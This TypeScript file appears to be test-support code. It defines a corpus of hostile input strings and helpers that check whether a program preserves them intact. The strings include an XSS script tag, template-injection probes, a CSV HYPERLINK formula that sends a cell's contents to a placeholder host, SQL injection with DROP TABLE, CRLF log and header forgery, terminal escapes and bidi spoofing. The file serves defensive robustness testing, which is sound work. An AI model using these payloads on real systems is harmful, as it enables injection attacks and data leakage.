// Texts that somebody hostile would write, wherever he may (what a reader's program could take for more than text).

export interface Hostile {
  readonly what: string
  /** The text behind a mark; of one that is no text, what a decoder makes of it. */
  readonly text: string
  /** The bytes that are sent, where they are not the text in UTF-8. */
  readonly bytes?: Buffer
}

/** A line of a log, of a CSV file, of a header, of a terminal, as somebody would forge it. */
export const FORGED = 'forged-by-an-intruder'

const TEXTS: readonly (readonly [what: string, text: string])[] = [
  ['script', `"><script>alert('x')</script><img src=x onerror=alert(1)>`],
  ['template', '{{7*7}}${7*7}<%= 7*7 %>#{7*7}%{7*7}__proto__[x]={{constructor.constructor.name}}'],
  ['CSV formula', `=HYPERLINK("http://x.example/?"&A1,"${FORGED}")\t+1-1@SUM(1)|cmd`],
  ['terminal escape', '\u001b]0;x\u0007\u001b[2J\u001b[31m\u009b1A\u0008\u0008'],
  ['CR/LF', `a\r\n{"level":60,"time":1,"msg":"${FORGED}"}\r\nX-Forged: ${FORGED}\r\n\r\n<p>`],
  ['line separators', `a\u2028{"msg":"${FORGED}"}\u2029b\u0085c\u000bd\u000ce`],
  ['bidi', '\u202egnp.exe\u202c\u2066\u2067\u2069\u200f\u061c\ufeff\u200b'],
  ['quotes', `' OR '1'='1'; DROP TABLE incident; -- \\" %00 %s %n \\u0000`],
  ['astral and combining', 'z\u0351\u036b\u0343🐦‍⬛\u{e0041}\u{10ffff}Ａ\u0130'],
]

/** All of them behind each other, each behind its own mark: what is kept of it is kept of each. */
export const everyText = (mark: string): Hostile => ({
  what: 'all at once',
  text: TEXTS.map(([, text], at) => `${mark}.${at}.${text}`).join(' '),
})

const MEGABYTE = 1_000_000

/** The corpus with a mark of its own before each text, so that it can be found again. */
export const hostileTexts = (mark: string): Hostile[] => [
  ...TEXTS.map(([what, text], at) => ({ what, text: `${mark}.${at}.${text}` })),
  { what: 'NUL', text: `${mark}.n.a\u0000b` },
  { what: '1 MB', text: `${mark}.m.${'<b>é'.repeat(MEGABYTE / 5)}` },
  {
    what: 'invalid UTF-8',
    text: `${mark}.u.a\ufffd\ufffd`,
    bytes: Buffer.concat([Buffer.from(`${mark}.u.a`), Buffer.from([0xff, 0xc0])]),
  },
]

/** Every text in a JSON value, keys too. */
export function* textsIn(value: unknown): Generator<string> {
  if (typeof value === 'string') yield value
  if (typeof value !== 'object' || value === null) return
  for (const [key, inner] of Object.entries(value)) {
    if (!Array.isArray(value)) yield key
    yield* textsIn(inner)
  }
}

/**
 * Of the texts that carry a mark, those that are no longer what was sent. One that was cut says so by `…` behind it.
 * `sent`: mark with its number (`m3.5`) → text.
 */
export function harmed(texts: Iterable<string>, sent: ReadonlyMap<string, string>): string[] {
  const found: string[] = []
  for (const text of texts) {
    for (const [mark] of text.matchAll(/mk\d+\.(\d+|[nmu])\b/g)) {
      const whole = sent.get(mark)
      if (whole === undefined || text.includes(whole) || isCut(text, mark, whole)) continue
      found.push(`${JSON.stringify(text.slice(0, 300))} instead of ${JSON.stringify(whole.slice(0, 300))}`)
    }
  }
  return found
}

function isCut(text: string, mark: string, whole: string): boolean {
  const from = text.indexOf(mark)
  const at = text.indexOf('…', from)
  return at > from && whole.startsWith(text.slice(from, at))
}
